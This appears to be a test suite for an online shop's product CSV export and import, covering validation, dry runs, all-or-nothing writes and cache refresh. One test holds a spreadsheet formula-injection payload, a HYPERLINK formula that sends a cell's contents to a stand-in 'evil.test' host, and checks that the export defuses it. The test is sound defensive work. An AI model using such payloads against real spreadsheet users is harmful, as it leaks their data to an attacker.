// Issue #11 item 6, decision 0061: products and variants as CSV. The export round-trips through
// the import; the dry run lists each row's problems (file line, column, the products API's
// message) and writes nothing; a file with one bad row writes nothing even without a dry run; a
// good file updates prices, stock and both languages' titles, and the cached storefront page and
// search show it on the next request; files too large or unreadable are refused whole.
import { env } from "cloudflare:workers";
import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { and, eq, inArray } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import type { ProductCsvReport } from "../../core/contracts/admin/product-csv.ts";
import { products, productTitles, productTranslations, productVariants } from "../../db/schema/index.ts";
import { api } from "../../workers/api/app.ts";
import { openDb } from "../../workers/lib/db.ts";
import { bumpCatalogueVersion, catalogueVersionKey } from "../../workers/lib/page-cache.ts";
import { call } from "../fixtures/account-flow.ts";
import { createAdmin, createCustomer, fixturePassword, signIn } from "../fixtures/accounts.ts";
import { createCategory, createProduct, createVariantProduct, uniqueToken } from "../fixtures/catalogue.ts";
import { putSiteSettings } from "../fixtures/factories.ts";

const db = openDb(env);
let cookie = "";

beforeAll(async () => {
  const admin = await createAdmin(db);
  cookie = (await signIn(db, { kind: "admin", id: admin.id })).cookie;
});

type Answer = { data: ProductCsvReport; error?: string; message?: string; errors?: Record<string, string> };

/** POSTs a CSV text as the screen does: multipart `file`, and `dryRun` when given. */
async function importCsv(csv: string, options: { dryRun?: string; language?: "ar" | "en" } = {}) {
  const form = new FormData();
  form.set("file", new File([csv], "products.csv", { type: "text/csv" }));
  if (options.dryRun !== undefined) form.set("dryRun", options.dryRun);
  const response = await call("/api/admin/product-csv/import", { cookie, form, language: options.language });
  return { status: response.status, answer: (await response.json()) as Answer };
}

const exportCsv = () => call("/api/admin/product-csv/export", { cookie });

/** A CSV of `rows` under `header`, as a spreadsheet saves it (no BOM, LF). */
const csvOf = (header: string, ...rows: string[]) => [header, ...rows].join("\n");

const stored = async (id: number) => {
  const [product] = await db.select().from(products).where(eq(products.id, id));
  const texts = await db.select().from(productTranslations).where(eq(productTranslations.productId, id));
  return { product, texts: Object.fromEntries(texts.map((text) => [text.locale, text.title])) };
};

describe("products CSV: export", () => {
  it("answers every product and its variants as a CSV attachment, and leaves /products/:id to the products API", async () => {
    const plain = await createProduct(db, { price: 1_999, discountPrice: 1_500, quantity: 40, weight: 250 });
    const sized = await createVariantProduct(db, {
      sizes: [
        { en: "S", ar: "ص" },
        { en: "M", ar: "م" },
      ],
      colours: [{ en: "Red", ar: "أحمر" }],
    });
    const response = await exportCsv();
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    // A byte order mark, so spreadsheets read Arabic as UTF-8 (text() drops it when it decodes)
    expect([...new Uint8Array(await response.clone().arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = await response.text();
    expect(text.startsWith("sku,variant_code,title_en,title_ar,")).toBe(true);
    const lines = text.split("\r\n");
    expect(lines).toContain(
      `${plain.sku},,${plain.title.en},${plain.title.ar},About ${plain.title.en},وصف ${plain.title.ar},19.99,15.00,40,available,available,1,1,250,`,
    );
    expect(lines.filter((line) => line.startsWith(`${sized.sku},${sized.sku}-`))).toEqual([
      `${sized.sku},${sized.sku}-1-1,,,,,125.00,,50,available,,,,,`,
      `${sized.sku},${sized.sku}-2-1,,,,,126.00,,50,available,,,,,`,
    ]);
    // Neither router shadows the other
    const detail = await call(`/api/admin/products/${plain.id}`, { cookie });
    expect(((await detail.json()) as { data: { sku: string } }).data.sku).toBe(plain.sku);
  });

  it("round-trips: the export's rows import with no problem and change nothing", async () => {
    const plain = await createProduct(db, { price: 4_250, quantity: 12 });
    const sized = await createVariantProduct(db, {
      sizes: [{ en: "L", ar: "ك" }],
      colours: [{ en: "Blue", ar: "أزرق" }],
    });
    const text = await (await exportCsv()).text();
    const [header = "", ...rows] = text.replace(/^\uFEFF/, "").split("\r\n");
    const ours = rows.filter((row) => row.startsWith(`${plain.sku},`) || row.startsWith(`${sized.sku},`));
    expect(ours).toHaveLength(3);
    const before = [await stored(plain.id), await stored(sized.id)];
    const { status, answer } = await importCsv(`\uFEFF${[header, ...ours].join("\r\n")}\r\n`, { dryRun: "false" });
    expect(status, JSON.stringify(answer)).toBe(200);
    expect(answer.data).toMatchObject({ written: true, rows: 3, products: 2, variants: 1, problems: [] });
    const after = [await stored(plain.id), await stored(sized.id)];
    expect(after.map(({ product, texts }) => ({ ...product, updatedAt: 0, texts }))).toEqual(
      before.map(({ product, texts }) => ({ ...product, updatedAt: 0, texts })),
    );
  });

  it("guards every line of a text against formulas and quotes semicolons; the import takes the guard back", async () => {
    const product = await createProduct(db);
    const description = 'Soft cotton.\n=HYPERLINK("https://evil.test/?"&A1,"Click")';
    await db
      .update(productTranslations)
      .set({ description })
      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "en")));
    await db
      .update(productTranslations)
      .set({ title: "منشفة; =1+1" })
      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "ar")));
    const text = await (await exportCsv()).text();
    // Records end in CRLF; the line break inside the description is the LF it was written with
    const [header = "", ...rows] = text.replace(/^\uFEFF/, "").split("\r\n");
    const row = rows.find((line) => line.startsWith(`${product.sku},`)) ?? "";
    expect(row).toContain(`,"منشفة; =1+1",`);
    expect(row).toContain(`,"Soft cotton.\n'=HYPERLINK(""https://evil.test/?""&A1,""Click"")",`);
    const before = await stored(product.id);
    const { status, answer } = await importCsv(`${header}\r\n${row}\r\n`, { dryRun: "false" });
    expect(status, JSON.stringify(answer)).toBe(200);
    const [en] = await db
      .select({ description: productTranslations.description })
      .from(productTranslations)
      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "en")));
    expect(en?.description).toBe(description);
    expect((await stored(product.id)).texts).toEqual(before.texts);
  });
});

describe("products CSV: the dry run lists each row's problems and writes nothing", () => {
  const header = "sku,variant_code,title_en,price,quantity,weight_grams";

  it.each([
    ["a title under 3 characters", (sku: string) => `${sku},,ab,,,`, "title_en", "Enter at least 3 characters"],
    ["an SKU under 4 characters", () => `ABC,,,,,`, "sku", "The SKU must be 4 to 12 characters"],
    ["an SKU over 12 characters", () => `ABCDEFGHIJKLM,,,,,`, "sku", "The SKU must be 4 to 12 characters"],
    ["a quantity of 0", (sku: string) => `${sku},,,,0,`, "quantity", "Enter a whole number of at least 1"],
    ["a negative price", (sku: string) => `${sku},,,-1,,`, "price", "Enter an amount of 0 or more"],
    ["a price with three decimals", (sku: string) => `${sku},,,1.999,,`, "price", "Enter an amount of 0 or more"],
    ["a negative weight", (sku: string) => `${sku},,,,,-5`, "weight_grams", "Enter a weight in grams of 0 or more"],
    [
      "an unknown SKU",
      () => `Z${uniqueToken()},,,1.00,,`,
      "sku",
      "No product has this SKU; the import changes existing products only",
    ],
    [
      "a variant row whose product is missing",
      () => `Z${uniqueToken()},Z-1,,1.00,,`,
      "sku",
      "This variant's product is not in the shop",
    ],
    [
      "an unknown variant code",
      (sku: string) => `${sku},${sku}-9-9,,1.00,,`,
      "variant_code",
      "This product has no variant with this code",
    ],
    [
      "a product's column on a variant's row",
      (sku: string) => `${sku},${sku}-1-1,Towel,,,`,
      "title_en",
      "Leave this column empty on a variant's row",
    ],
    ["a row repeated", (_sku: string, good: string) => `${good},,,2.00,,`, "sku", "Line 2 already has this row"],
    // Decision 0074: the bounds that keep every total exact, as the products API's
    [
      "a variant's price above 1,000,000.00",
      (sku: string) => `${sku},${sku}-1-1,,1000000.01,,`,
      "price",
      "Enter an amount of at most 1,000,000.00",
    ],
    [
      "a variant's stock above 1,000,000,000",
      (sku: string) => `${sku},${sku}-1-1,,,1000000001,`,
      "quantity",
      "Enter a stock of at most 1,000,000,000",
    ],
  ])("%s", async (_, bad, column, message) => {
    const product = await createVariantProduct(db, {
      sizes: [{ en: "S", ar: "ص" }],
      colours: [{ en: "Green", ar: "أخضر" }],
      price: 3_000,
    });
    const good = await createProduct(db);
    const before = [await stored(product.id), await stored(good.id)];
    // Line 2 is a good row: it is not written either, because line 3 is bad.
    const csv = csvOf(header, `${good.sku},,Good towel ${uniqueToken()},1.00,,`, bad(product.sku, good.sku));
    for (const dryRun of [undefined, "true"]) {
      const { status, answer } = await importCsv(csv, { dryRun });
      expect(status).toBe(200);
      expect(answer.data).toMatchObject({ dryRun: true, written: false, rows: 2, problemCount: 1 });
      expect(answer.data.problems).toEqual([{ line: 3, column, message }]);
    }
    expect([await stored(product.id), await stored(good.id)]).toEqual(before);
  });

  it.each([
    ["price", "1000000.01", "Enter an amount of at most 1,000,000.00"],
    ["discount_price", "1000000.01", "Enter an amount of at most 1,000,000.00"],
    ["quantity", "1000000001", "Enter a stock of at most 1,000,000,000"],
    ["min_order_quantity", "50001", "Enter a whole number of at most 50,000"],
    ["pack_size", "50001", "Enter a whole number of at most 50,000"],
  ])("refuses a product's %s one step above its bound (decision 0074)", async (column, value, message) => {
    const product = await createProduct(db, { price: 100_000_000 });
    const { status, answer } = await importCsv(csvOf(`sku,${column}`, `${product.sku},${value}`));
    expect(status).toBe(200);
    expect(answer.data.problems).toEqual([{ line: 2, column, message }]);
  });

  it("takes a product at every bound and stores it exactly", async () => {
    const product = await createProduct(db, { minOrderQuantity: 1, packSize: 1 });
    const csv = csvOf(
      "sku,price,discount_price,quantity,min_order_quantity,pack_size",
      `${product.sku},1000000.00,1000000.00,1000000000,50000,50000`,
    );
    const { status, answer } = await importCsv(csv, { dryRun: "false" });
    expect(status, JSON.stringify(answer)).toBe(200);
    expect((await stored(product.id)).product).toMatchObject({
      price: 100_000_000,
      discountPrice: 100_000_000,
      quantity: 1_000_000_000,
      minOrderQuantity: 50_000,
      packSize: 50_000,
    });
  });

  it("leaves the storefront's cache as it was; the import that writes renews it", async () => {
    const product = await createProduct(db);
    const csv = csvOf(header, `${product.sku},,Towel ${uniqueToken()},2.50,,`);
    const before = await bumpCatalogueVersion(env.KV);
    expect((await importCsv(csv, { dryRun: "true" })).status).toBe(200);
    expect(await env.KV.get(catalogueVersionKey)).toBe(before);
    expect((await importCsv(csv, { dryRun: "false" })).status).toBe(200);
    expect(await env.KV.get(catalogueVersionKey)).not.toBe(before);
  });

  it("gives the file's line, counting a quoted line break and skipping blank lines, in Arabic too", async () => {
    const product = await createProduct(db);
    const csv = csvOf(
      "sku,title_en,description_en,price",
      `${product.sku},Towel,"Two\nlines",1.00`,
      "",
      `${product.sku},x,,abc`,
    );
    const { answer } = await importCsv(csv, { language: "ar" });
    expect(answer.data.problems).toEqual([{ line: 5, column: "sku", message: "هذا الصف مكرر؛ ورد في السطر 2" }]);
    const other = await createProduct(db);
    const { answer: both } = await importCsv(csvOf("sku,title_en,price", `${other.sku},x,abc`), { language: "ar" });
    expect(both.data.problems).toEqual([
      { line: 2, column: "price", message: "أدخل مبلغاً يساوي 0 أو أكثر" },
      { line: 2, column: "title_en", message: "أدخل 3 أحرف على الأقل" },
    ]);
  });

  it("refuses a discount above the price and a minimum order that is not whole packs, as the products API", async () => {
    const product = await createProduct(db, { price: 2_000 });
    const { answer } = await importCsv(
      csvOf("sku,price,discount_price,min_order_quantity,pack_size", `${product.sku},10.00,12.00,5,2`),
    );
    expect(answer.data.problems).toEqual([
      { line: 2, column: "discount_price", message: "The discount price cannot be more than the price" },
      { line: 2, column: "min_order_quantity", message: "The minimum order must be a whole number of packs" },
    ]);
  });

  it("refuses a product quantity that is not its variants' total", async () => {
    const product = await createVariantProduct(db, {
      sizes: [{ en: "S", ar: "ص" }],
      colours: [{ en: "Teal", ar: "أزرق مخضر" }],
    });
    const { answer } = await importCsv(csvOf("sku,variant_code,quantity", `${product.sku},,75`));
    expect(answer.data.problems).toEqual([
      {
        line: 2,
        column: "quantity",
        message: "This product has variants: its stock is their total. Change the variants' quantities instead.",
      },
    ]);
    // The total the file leaves is accepted (and the stored one, as the export writes it)
    const good = await importCsv(
      csvOf("sku,variant_code,quantity", `${product.sku},,75`, `${product.sku},${product.sku}-1-1,75`),
    );
    expect(good.answer.data.problems).toEqual([]);
  });
});

describe("products CSV: the import is all or nothing", () => {
  it("writes nothing when one row is bad, even without a dry run, and names the row's fields", async () => {
    const first = await createProduct(db, { price: 1_000 });
    const second = await createProduct(db, { price: 1_000 });
    const before = [await stored(first.id), await stored(second.id)];
    const { status, answer } = await importCsv(
      csvOf("sku,price,title_en", `${first.sku},20.00,Renamed towel`, `${second.sku},abc,Also renamed`),
      { dryRun: "false" },
    );
    expect(status).toBe(400);
    expect(answer).toMatchObject({
      error: "invalid_input",
      errors: { "lines.3.price": "Enter an amount of 0 or more" },
    });
    expect([await stored(first.id), await stored(second.id)]).toEqual(before);
  });

  it("refuses an unreadable file whole, at `file`", async () => {
    const product = await createProduct(db);
    for (const [csv, message] of [
      ["", "Choose a file"],
      ["sku,price", "The file has no product rows"],
      ["price\n1.00", "The file needs an sku column"],
      [`sku,colour\n${product.sku},red`, 'Unknown column "colour"; use the export\'s columns'],
      [`sku,title_en\n${product.sku},"open`, "The file could not be read: a quote is not closed (line 2)"],
    ]) {
      const { status, answer } = await importCsv(csv ?? "", { dryRun: "false" });
      expect(status, csv).toBe(400);
      expect(answer.errors, csv).toEqual({ file: message });
    }
    const missing = await call("/api/admin/product-csv/import", { cookie, form: new FormData() });
    expect(((await missing.json()) as Answer).errors).toEqual({ file: "Choose a file" });
  });

  it("refuses a file above 5 MB with a translated 413", async () => {
    const big = `sku,title_en\n${"ABCD,Towel towel towel towel\n".repeat(200_000)}`;
    for (const [language, message] of [
      ["en", "The file is larger than 5 MB; split it into smaller files"],
      ["ar", "الملف أكبر من 5 ميغابايت؛ قسّمه إلى ملفات أصغر"],
    ] as const) {
      const { status, answer } = await importCsv(big, { language });
      expect(status).toBe(413);
      expect(answer).toMatchObject({ error: "csv_too_large", message });
    }
  });

  it("updates prices, stock, both languages' titles and variants; a product's stock stays its variants' total", async () => {
    const plain = await createProduct(db, { price: 1_000, quantity: 5 });
    const sized = await createVariantProduct(db, {
      sizes: [
        { en: "S", ar: "ص" },
        { en: "M", ar: "م" },
      ],
      colours: [{ en: "Grey", ar: "رمادي" }],
    });
    const token = uniqueToken();
    const csv = csvOf(
      "sku,variant_code,title_en,title_ar,price,quantity,status",
      `${plain.sku},,Bath sheet ${token},منشفة حمام ${token},"١٢٫٥٠",300,unavailable`,
      `${sized.sku},${sized.sku}-1-1,,,99.5,7,`,
      `${sized.sku},${sized.sku}-2-1,,,,11,unavailable`,
    );
    const { status, answer } = await importCsv(csv, { dryRun: "false" });
    expect(status, JSON.stringify(answer)).toBe(200);
    expect(answer.data).toMatchObject({ dryRun: false, written: true, rows: 3, products: 1, variants: 2 });
    const after = await stored(plain.id);
    expect(after.product).toMatchObject({ price: 1_250, quantity: 300, status: "unavailable" });
    expect(after.texts).toEqual({ en: `Bath sheet ${token}`, ar: `منشفة حمام ${token}` });
    const titles = await db.select().from(productTitles).where(eq(productTitles.productId, plain.id));
    expect(Object.fromEntries(titles.map((row) => [row.locale, row.title]))).toEqual(after.texts);
    const variants = await db
      .select()
      .from(productVariants)
      .where(inArray(productVariants.id, sized.variantIds))
      .orderBy(productVariants.position);
    expect(variants.map(({ price, quantity, status }) => ({ price, quantity, status }))).toEqual([
      { price: 9_950, quantity: 7, status: "available" },
      { price: 12_600, quantity: 11, status: "unavailable" },
    ]);
    expect((await stored(sized.id)).product?.quantity).toBe(18);
  });

  it("adds the Arabic texts a product lacked, with a slug of their own", async () => {
    const product = await createProduct(db);
    await db.delete(productTranslations).where(eq(productTranslations.productId, product.id));
    await db
      .insert(productTranslations)
      .values({ productId: product.id, locale: "en", title: "Towel", slug: `towel-${uniqueToken()}` });
    const lacking = await importCsv(csvOf("sku,description_ar", `${product.sku},وصف`));
    expect(lacking.answer.data.problems).toEqual([{ line: 2, column: "title_ar", message: "This field is required" }]);
    const { status } = await importCsv(csvOf("sku,title_ar,description_ar", `${product.sku},منشفة,وصف`), {
      dryRun: "false",
    });
    expect(status).toBe(200);
    const [arabic] = await db
      .select()
      .from(productTranslations)
      .where(eq(productTranslations.productId, product.id))
      .then((rows) => rows.filter((row) => row.locale === "ar"));
    expect(arabic).toMatchObject({ title: "منشفة", description: "وصف" });
    expect(arabic?.slug).toContain(product.sku.toLowerCase());
  });
});

describe("products CSV: the storefront follows an import on the next request", () => {
  async function storefront(path: string, headers: Record<string, string> = {}) {
    const ctx = createExecutionContext();
    const response = await api.request(path, { headers: { "accept-language": "en", ...headers } }, env, ctx);
    await waitOnExecutionContext(ctx);
    return response;
  }
  const cacheOf = (response: Response) =>
    /cache;desc="?([^,"]+)"?/.exec(response.headers.get("server-timing") ?? "")?.[1];

  async function buyerCookies() {
    const buyer = await createCustomer(db);
    const response = await api.request(
      "/api/auth/login",
      {
        method: "POST",
        headers: { origin: "http://localhost", "content-type": "application/json" },
        body: JSON.stringify({ login: buyer.email, password: fixturePassword }),
      },
      env,
    );
    return response.headers
      .getSetCookie()
      .map((line) => line.split(";")[0] ?? "")
      .filter((pair) => !pair.endsWith("="))
      .join("; ");
  }

  it("shows the imported price and title on the cached product page, and the title in search", async () => {
    await putSiteSettings(db);
    await bumpCatalogueVersion(env.KV);
    const category = await createCategory(db);
    const product = await createProduct(db, { categoryId: category.id, price: 4_750 });
    const page = `/api/productDetails/${product.slugs.en}`;
    const buyer = { cookie: await buyerCookies() };
    await storefront(page, buyer);
    const cached = await storefront(page, buyer);
    expect(cacheOf(cached)).toBe("hit memory");
    const word = `Quokka${uniqueToken()}`;
    const search = `/api/category/${category.slugs.en}?search=${word}`;
    const found = async () =>
      ((await (await storefront(search)).json()) as { data: { products: { total: number } } }).data.products.total;
    expect(await found()).toBe(0);

    const { status } = await importCsv(csvOf("sku,title_en,price", `${product.sku},${word} towel,39.99`), {
      dryRun: "false",
    });
    expect(status).toBe(200);
    const details = (await (await storefront(page, buyer)).json()) as { data: { title: string; price: number } };
    expect(details.data).toMatchObject({ title: `${word} towel`, price: 3_999 });
    expect(await found()).toBe(1);
  });
});
